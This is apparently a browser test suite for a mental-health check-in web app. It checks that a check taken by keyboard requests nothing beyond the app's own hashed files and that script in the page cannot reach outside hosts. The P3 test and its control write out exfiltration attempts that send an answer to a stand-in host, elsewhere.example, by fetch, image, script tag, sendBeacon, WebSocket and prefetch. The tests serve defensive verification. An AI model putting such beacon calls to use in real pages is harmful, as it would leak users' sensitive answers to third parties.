// P2 and P3. From the first answer to the result nothing is asked of the network, and never anything of others.
// Counted at the server and at the only way out, so that no engine has to be believed.

import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { dist } from '../stage/site.mjs';
import { until, wait } from '../until.mjs';
import { Visitor } from '../visitor.mjs';

/** The page and its own hashed files, and nothing else. */
const allowed = () => new Set(['/', ...readdirSync(`${dist}/assets`).map((name) => `/assets/${name}`)]);
const hashed = /^\/assets\/[\w.-]+-[0-9a-f]{16}\.(js|wasm|css|bin)$/;

/** What was asked so far, of us and of anybody. */
const seen = ({ gate, outside }) => ({
  requests: gate.requests.length,
  connections: gate.connections,
  others: outside.requests.length,
  reached: outside.reached.length,
});

/** Opens the page, and waits for what it fetches once it runs. */
async function open(page, stage) {
  const from = stage.gate.requests.length;
  await page.open(`${stage.gate.address}/#/check-in`);
  const visitor = new Visitor(page);
  await visitor.started();
  for (const name of ['/directory.', '/library.', '/strongbox-', '/strongbox_bg-']) {
    await until(name, () => stage.gate.since(from).some((path) => path.includes(name)));
  }
  await wait(200);
  return { visitor, loaded: stage.gate.since(from) };
}

export function requests(test) {
  test('P2: a whole check by keyboard asks the network for nothing', async ({ page, stage }) => {
    const { visitor, loaded } = await open(page, stage);
    const own = allowed();
    assert.deepEqual(loaded.filter((path) => !own.has(path)), [], 'only files of its own');
    assert.deepEqual(loaded.filter((path) => path !== '/' && !hashed.test(path)), [], 'named by their contents');
    await visitor.place.click('#app h1');
    await visitor.presses('.topic-choice', 'Mood');
    const before = seen(stage);
    await visitor.answers(4, 4, 4, 4, 4, 4, 4, 4, 4);
    await visitor.sees('you come first');
    await visitor.presses('#app button', 'I am safe right now. Go on');
    await visitor.answers(4);
    await visitor.sees('What would help now');
    await wait(300);
    assert.deepEqual(seen(stage), before);
  });

  test('P2 control: a request during a check is counted, and so is another page', async ({ page, stage }) => {
    const { visitor } = await open(page, stage);
    await visitor.begins('Mood');
    const before = seen(stage);
    await page.top.run(() => fetch(`${document.querySelector('link[data-part=wasm]').href}?answer=4`).then(() => null, () => null));
    assert.equal(seen(stage).requests, before.requests + 1);
    await page.open(`${stage.gate.address}/request/`);
    assert.ok(stage.gate.since(before.requests).some((path) => path.includes('/assets/request')));
  });

  test('P3: whatever a script in the page tried, nobody else would hear of it', async ({ page, stage }) => {
    await open(page, stage);
    const before = seen(stage);
    const tried = await page.top.run(async () => {
      const far = 'https://elsewhere.example/?answer=4';
      const outcome = (name, settled) => settled.then(() => `${name} was sent`, () => `${name} was refused`);
      const image = new Promise((done, failed) => Object.assign(new Image(), { onload: done, onerror: failed, src: far }));
      const script = new Promise((done, failed) => {
        document.head.append(Object.assign(document.createElement('script'), { onload: done, onerror: failed, src: far }));
      });
      navigator.sendBeacon?.(far, '4');
      try { new WebSocket('wss://elsewhere.example/'); } catch { /* Refused at once. */ }
      document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: far }));
      return Promise.all([outcome('fetch', fetch(far, { mode: 'no-cors' })), outcome('image', image), outcome('script', script)]);
    });
    assert.deepEqual(tried, ['fetch was refused', 'image was refused', 'script was refused']);
    await wait(300);
    assert.deepEqual(stage.outside.reached.slice(before.reached).filter((host) => host.includes('elsewhere')), []);
  });

  test('P3 control: the host page reaches somebody else, and it is seen', async ({ page, stage }) => {
    await page.open(stage.host.page('<!doctype html><title>Host</title>'));
    await page.top.run(() => fetch('https://elsewhere.example/?answer=4', { mode: 'no-cors' }).then(() => null));
    assert.ok(stage.outside.asked('elsewhere.example').some(({ path }) => path.includes('answer=4')));
  });
}
